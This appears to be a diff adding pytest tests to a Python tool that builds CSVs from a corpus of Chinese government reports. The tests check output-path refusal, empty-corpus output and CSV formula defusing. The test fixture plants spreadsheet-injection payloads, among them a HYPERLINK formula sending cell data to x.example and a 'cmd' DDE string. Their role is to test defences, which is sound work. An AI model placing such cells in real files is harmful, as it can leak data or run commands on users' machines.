@@ -339,3 +339,136 @@ def test_indicators_csv_follows_the_build_csv_rule(tmp_path, seed_corpus):
     assert lines[0].startswith('"report_id","organ_id","agency","year",')
     # Text quoted, the year a bare number, like the build's reports.csv.
     assert lines[1].startswith('"000_390bec4f8b72bc77","230321:鸡东县民政局","鸡东县民政局",2023,"2021",')
+# ------------------------------------------------------------------ outputs never inside the corpus
+
+
+def test_every_writing_command_refuses_an_output_inside_the_corpus(tmp_path, capsys, seed_corpus):
+    corpus = tmp_path / "corpus"
+    shutil.copytree(seed_corpus, corpus)
+    (tmp_path / "link").symlink_to(corpus / "reports")  # a path that only resolves into the corpus
+    before = _hashes(corpus)
+    cases = [
+        ["indicators", "--out", str(corpus / "metadata.csv")],
+        ["indicators", "--by", "organ", "--out", str(tmp_path / "link" / "x.csv")],
+        ["chart", "outcomes", "--out", str(corpus / "reports" / "X")],
+        ["chart", "rates", "--out", str(corpus / "chart.png")],
+        ["build", "--out", str(corpus / "reports")],
+        ["build", "--out", str(corpus)],
+    ]
+    for argv in cases:
+        assert main([*argv, "--corpus", str(corpus)]) == 2, argv
+        err = capsys.readouterr().err.splitlines()
+        assert len(err) == 1 and err[0].startswith("xxgk: ") and "refusing to write into the corpus folder" in err[0]
+    assert _hashes(corpus) == before
+    assert not list(tmp_path.glob("*.png"))
+    # Beside the corpus is not in it: a chart named after the corpus folder is written next to it.
+    assert main(["chart", "outcomes", "--corpus", str(corpus), "--out", str(corpus)]) == 0
+    assert (tmp_path / "corpus.png").is_file() and _hashes(corpus) == before
+
+
+# ------------------------------------------------------------------ an empty corpus
+
+
+def test_indicators_of_an_empty_corpus_are_header_only_csvs(tmp_path, capsys):
+    from toolkit import indicators, summarise_indicators
+
+    corpus = tmp_path / "new"
+    assert main(["init", str(corpus)]) == 0
+    expected = {
+        None: ["report_id", "organ_id", "agency", "year", "template", "indicator", "numerator", "denominator",
+               "value", "ci_low", "ci_high", "source", "reason", "conflict"],
+        "organ": ["organ_id", "agency", "indicator", "template", "value", "numerator", "denominator", "ci_low",
+                  "ci_high", "n_reports", "n_missing", "n_stated", "n_conflict"],
+        "year": ["year", "indicator", "template", "value", "numerator", "denominator", "ci_low", "ci_high",
+                 "n_reports", "n_missing", "n_stated", "n_conflict"],
+    }
+    for by, columns in expected.items():
+        out = tmp_path / f"{by}.csv"
+        assert main(["indicators", "--corpus", str(corpus), "--out", str(out), *(["--by", by] if by else [])]) == 0
+        captured = capsys.readouterr()
+        assert captured.err == "" and "0 rows" in captured.out
+        assert out.read_bytes() == b"\xef\xbb\xbf" + (",".join(f'"{c}"' for c in columns) + "\n").encode()
+    frame = indicators(corpus)
+    for by in ("organ", "year", None):
+        summary = summarise_indicators(frame, by)
+        columns = expected[by] if by else expected["year"][1:]  # over everything: no key column
+        assert summary.empty and list(summary.columns) == columns
+        assert str(summary["value"].dtype) == "Float64" and str(summary["n_reports"].dtype) == "Int64"
+
+
+# ------------------------------------------------------------------ CSV cells a spreadsheet would run
+
+
+def _hostile_corpus(tmp_path: Path, seed_corpus: Path) -> Path:
+    corpus = tmp_path / "corpus"
+    shutil.copytree(seed_corpus, corpus)
+    meta = pd.read_csv(corpus / "metadata.csv", dtype=str, keep_default_na=False)
+    meta.loc[meta["report_id"] == "003_03a04d677c33f02f", "agency"] = '=HYPERLINK("http://x.example/?"&A1,"吴忠")'
+    meta.loc[meta["report_id"] == "003_03a04d677c33f02f", "title"] = "-2+3+cmd|' /C calc'!A0"
+    meta.loc[meta["report_id"] == "004_90c37852d1e90522", "sector"] = "@SUM(1+1)"
+    meta.loc[meta["report_id"] == "001_0d529075b8579b4b", "title"] = "\tTAB"  # titles keep their spaces
+    meta.to_csv(corpus / "metadata.csv", index=False, lineterminator="\n")
+    return corpus
+
+
+def test_csv_outputs_defuse_formula_cells_and_keep_numbers(tmp_path, seed_corpus):
+    import csv
+
+    corpus = _hostile_corpus(tmp_path, seed_corpus)
+    out = tmp_path / "out"
+    assert main(["build", "--corpus", str(corpus), "--out", str(out), "--jobs", "1", "--no-charts"]) == 0
+    with open(out / "reports.csv", encoding="utf-8-sig", newline="") as fh:
+        rows = {r["report_id"]: r for r in csv.DictReader(fh)}
+    assert rows["003_03a04d677c33f02f"]["agency"] == '\'=HYPERLINK("http://x.example/?"&A1,"吴忠")'
+    assert rows["003_03a04d677c33f02f"]["title"] == "'-2+3+cmd|' /C calc'!A0"
+    assert rows["004_90c37852d1e90522"]["sector"] == "'@SUM(1+1)"
+    assert rows["001_0d529075b8579b4b"]["title"] == "'\tTAB"
+    # Numbers are numbers: the year column is unquoted digits.
+    assert rows["003_03a04d677c33f02f"]["year"] == "2023"
+    # Parquet (and so the API) keeps the raw text.
+    reports = pd.read_parquet(out / "reports.parquet").set_index("report_id")
+    assert reports.loc["003_03a04d677c33f02f", "agency"] == '=HYPERLINK("http://x.example/?"&A1,"吴忠")'
+    # No text cell of any CSV the build wrote starts with a formula character.
+    for name in ("reports", "tables", "audit", "parse_log", "statements"):
+        with open(out / f"{name}.csv", encoding="utf-8-sig", newline="") as fh:
+            reader = csv.reader(fh)
+            next(reader)
+            for row in reader:
+                assert not [c for c in row if c[:1] in ("=", "+", "@", "\t", "\r")
+                            or (c[:1] == "-" and not _is_number(c))], (name, row)
+    # xxgk indicators writes through the same writer.
+    ind = tmp_path / "ind.csv"
+    assert main(["indicators", "--corpus", str(corpus), "--out", str(ind)]) == 0
+    with open(ind, encoding="utf-8-sig", newline="") as fh:
+        agencies = {r["agency"] for r in csv.DictReader(fh)}
+    assert '\'=HYPERLINK("http://x.example/?"&A1,"吴忠")' in agencies
+    assert not [a for a in agencies if a.startswith("=")]
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_writer_leaves_numbers_and_plain_text_alone():
+    import io
+
+    import pyarrow as pa
+
+    from toolkit.data.tabular import CsvSink
+
+    table = pa.table({"n": pa.array([-1.5, 2.0, None], pa.float64()), "k": pa.array([-3, 0, 7], pa.int64()),
+                      "t": ["-3", "+1.5", "-"], "u": ["=1+1", "吴忠市", None]})
+    buffer = io.BytesIO()
+    sink = CsvSink(buffer)
+    sink.write(table)
+    sink.close()
+    assert buffer.getvalue().decode("utf-8-sig").splitlines() == [
+        '"n","k","t","u"',
+        '-1.5,-3,"-3","\'=1+1"',
+        '2,0,"+1.5","吴忠市"',
+        ',7,"\'-",',
+    ]
